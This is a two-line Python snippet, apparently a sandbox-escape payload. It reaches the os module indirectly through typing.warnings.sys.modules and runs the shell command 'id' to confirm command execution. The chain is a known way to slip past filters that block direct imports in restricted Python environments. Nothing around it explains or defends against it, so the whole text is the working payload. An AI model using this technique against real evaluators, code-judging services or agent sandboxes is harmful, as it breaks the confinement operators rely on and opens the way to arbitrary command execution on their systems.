import typing
typing.warnings.sys.modules["os"].system("id")
